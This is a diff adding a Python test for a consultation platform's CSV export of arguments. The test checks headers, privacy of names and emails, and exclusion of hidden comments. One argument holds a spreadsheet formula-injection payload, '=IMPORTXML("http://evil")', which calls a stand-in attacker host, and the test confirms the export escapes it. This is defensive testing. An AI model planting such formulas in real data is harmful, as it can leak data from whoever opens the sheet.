@@ -4,6 +4,8 @@ consultation's open data names no person)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -294,3 +296,25 @@ def test_open_data_reads_each_debates_comments_in_one_query(argued):
     assert [r.operation for r in sent] == ["BatchGetItem", "BatchGetItem", "Query"] + [
         "Query"
     ] * len(debates)
+
+
+def test_the_arguments_as_a_spreadsheet_say_what_the_document_says_naming_nobody(argued):
+    cid, debates, users, _ = argued
+    formula = say(users["bob"], debates["talk"], '=IMPORTXML("http://evil")')
+    data = open_data(users["anonymous"], cid).data
+    sheet = open_data(users["anonymous"], cid, headers={"Accept": "text/csv"}, expect=200)
+    assert sheet.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert sheet.headers["Content-Disposition"] == f'attachment; filename="arguments-{cid}.csv"'
+    text = sheet.body.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))
+    assert [(r["argument_id"], r["author"]) for r in rows] == [
+        (a["id"], a["author"]) for a in data["arguments"]
+    ]
+    assert {r["consultation_id"] for r in rows} == {cid}
+    [injected] = [r for r in rows if r["argument_id"] == formula]
+    assert injected["body"] == '\'=IMPORTXML("http://evil")'
+    for sub, (name, email) in PEOPLE.items():
+        assert sub not in text and name not in text and email not in text
+    for hidden in ("Texte injurieux", "Je retire ceci", "effacé"):
+        assert hidden not in text
